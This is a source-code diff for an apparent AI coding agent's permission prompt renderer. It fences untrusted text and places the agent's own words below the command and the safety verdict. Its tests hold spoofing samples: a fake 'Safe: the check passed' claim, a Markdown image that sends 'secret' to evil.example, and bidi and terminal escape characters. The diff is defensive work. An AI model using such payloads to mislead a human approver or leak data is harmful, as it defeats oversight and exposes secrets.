@@ -18,6 +18,7 @@ use agent_client_protocol::{Agent, Client, ErrorCode, RequestCancellationHandle,
 use bravebot_core::egress::Egress;
 use bravebot_core::kernel::policy;
 use bravebot_core::kernel::proposal::LineEdit;
+use bravebot_core::run::masked;
 use bravebot_core::session::{
     Answer, BoxFuture, Question, QuestionKind, Screen, Session, StopReason, ToolStatus, Update,
 };
@@ -559,30 +560,24 @@ fn subject_of(routing: &Value) -> Option<&str> {
     .find_map(|key| routing.get(key).and_then(Value::as_str))
 }
 
-/// Untrusted text for the person's eyes in a host that renders Markdown: every line indented
-/// into a code block (nothing in it is read as a link, an image or markup) and the control
-/// characters that could move or hide text drawn as pictures.
+/// Text the driver did not write, for the person's eyes in a host that renders Markdown: a fenced
+/// code block (nothing in it is read as a link, an image or markup) whose fence is longer than
+/// any run of backticks inside, so no line of the text can close it, each line under the one mask
+/// a command is shown with ([`masked`]: control characters as pictures, the Unicode ones that
+/// could reorder or hide text as escapes).
 fn literal_block(text: &str) -> String {
-    let mut out = String::new();
+    let mut body = String::new();
     for line in text.split('\n') {
-        out.push_str("    ");
-        for c in line.chars() {
-            match c {
-                '\u{0}'..='\u{1f}' => {
-                    out.push(char::from_u32(0x2400 + c as u32).unwrap_or('\u{fffd}'))
-                }
-                '\u{7f}' => out.push('\u{2421}'),
-                '\u{80}'..='\u{9f}'
-                | '\u{200b}'..='\u{200f}'
-                | '\u{2028}'..='\u{202e}'
-                | '\u{2060}'..='\u{2069}'
-                | '\u{feff}' => out.push_str(&format!("<U+{:04X}>", c as u32)),
-                other => out.push(other),
-            }
-        }
-        out.push('\n');
+        body.push_str(&masked(line));
+        body.push('\n');
     }
-    out
+    let fence = "`".repeat(longest_backtick_run(&body).max(2) + 1);
+    format!("{fence}\n{body}{fence}\n")
+}
+
+/// The longest run of backticks in `text`.
+fn longest_backtick_run(text: &str) -> usize {
+    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
 }
 
 /// Cancels the host's permission request when the question stops being waited on (the turn was
@@ -630,9 +625,12 @@ impl AcpScreen {
         bravebot_core::tools::absolute(&self.cwd, Path::new(path))
     }
 
-    /// What a question shows besides its diff, as Markdown text: every trusted field plain, every
-    /// untrusted one (the content a yes would let through, the check's sentence) as a literal
-    /// block. The question subject is the one place untrusted bytes go to the host.
+    /// What a question shows besides its diff, as Markdown text: first the driver's facts (where
+    /// it comes from, the command, the check's word), plain; then every field the driver did not
+    /// write as a literal block under a label saying whose words it holds: the check's sentence,
+    /// the content a yes would let through, and last the agent's own words (its question, its
+    /// `why`), so nothing the planner wrote is drawn as markup or above the facts it is about.
+    /// The question subject is the one place untrusted bytes go to the host.
     fn question_text(question: &Question) -> String {
         let s = &question.subject;
         let mut m = String::new();
@@ -640,9 +638,6 @@ impl AcpScreen {
             m.push_str(&text);
             m.push_str("\n\n");
         };
-        if let Some(why) = &question.why {
-            line(why.clone());
-        }
         if let Some(origin) = &s.origin {
             line(format!("From: {origin}"));
         }
@@ -653,7 +648,7 @@ impl AcpScreen {
             line(format!("Host: `{host}`"));
         }
         if let Some(command) = &s.command {
-            line(format!("Command: `{command}`"));
+            line(format!("Command:\n\n{}", literal_block(command)));
         }
         if !s.plan.is_empty() {
             line(literal_block(&s.plan.join("\n")));
@@ -661,14 +656,14 @@ impl AcpScreen {
         if let Some(notice) = &s.notice {
             line(notice.clone());
         }
-        if let Some(q) = &s.question {
-            match &s.header {
-                Some(header) => line(format!("{header}: {q}")),
-                None => line(q.clone()),
-            }
-        }
         if let Some(v) = s.verdict {
             line(format!("The check said: {}", v.as_str()));
+        }
+        if s.hunks.len() > 1 {
+            line(format!(
+                "This change has {} hunks. ACP has no answer for one hunk, so this answer is for the whole change.",
+                s.hunks.len()
+            ));
         }
         if let Some(t) = &s.verdict_text {
             line(format!(
@@ -683,11 +678,15 @@ impl AcpScreen {
                 literal_block(policy::to_screen(content).as_str())
             ));
         }
-        if s.hunks.len() > 1 {
-            line(format!(
-                "This change has {} hunks. ACP has no answer for one hunk, so this answer is for the whole change.",
-                s.hunks.len()
-            ));
+        if let Some(q) = &s.question {
+            let asked = match &s.header {
+                Some(header) => format!("{header}: {q}"),
+                None => q.clone(),
+            };
+            line(format!("The agent asks:\n\n{}", literal_block(&asked)));
+        }
+        if let Some(why) = &question.why {
+            line(format!("The agent says:\n\n{}", literal_block(why)));
         }
         m
     }
@@ -1102,6 +1101,29 @@ mod tests {
         }
     }
 
+    // Verifies: ACP-14, RUNTOOL-14
+    #[test]
+    fn the_agents_why_is_labelled_and_literal_below_the_command_and_the_verdict() {
+        let mut q = question();
+        q.kind = QuestionKind::Run;
+        q.why = Some(
+            "```\n**Safe: the check passed.** ![x](https://evil.example/?q=1)\n\u{202e}ok".into(),
+        );
+        q.subject.command = Some("rm -rf build".into());
+        q.subject.verdict = Some(bravebot_core::kernel::policy::Verdict::Unsafe);
+        let text = AcpScreen::question_text(&q);
+        let says = text.find("The agent says:").expect(&text);
+        let command = text
+            .find("Command:\n\n```\nrm -rf build\n```")
+            .expect(&text);
+        let verdict = text.find("The check said: unsafe").expect(&text);
+        assert!(command < says && verdict < says, "{text}");
+        assert_eq!(
+            &text[says..],
+            "The agent says:\n\n````\n```\n**Safe: the check passed.** ![x](https://evil.example/?q=1)\n\\u{202e}ok\n````\n\n\n"
+        );
+    }
+
     // Verifies: ACP-6
     #[test]
     fn only_a_selected_offered_option_answers_and_everything_else_refuses() {
@@ -1159,12 +1181,17 @@ mod tests {
         assert_eq!(versions.keep(path, "two\n".into()), 1);
     }
 
-    // Verifies: ACP-7
+    // Verifies: ACP-7, ACP-14, RUNTOOL-14
     #[test]
     fn untrusted_text_is_drawn_as_a_literal_block_with_controls_pictured() {
         assert_eq!(
             literal_block("![x](https://evil.example/?q=secret)\n\u{202e}txt\u{1b}[2J"),
-            "    ![x](https://evil.example/?q=secret)\n    <U+202E>txt\u{241b}[2J\n"
+            "```\n![x](https://evil.example/?q=secret)\n\\u{202e}txt\u{241b}[2J\n```\n"
+        );
+        // A run of backticks inside cannot close the fence: it is always longer.
+        assert_eq!(
+            literal_block("a ``` b\n````\n**bold**"),
+            "`````\na ``` b\n````\n**bold**\n`````\n"
         );
     }
 
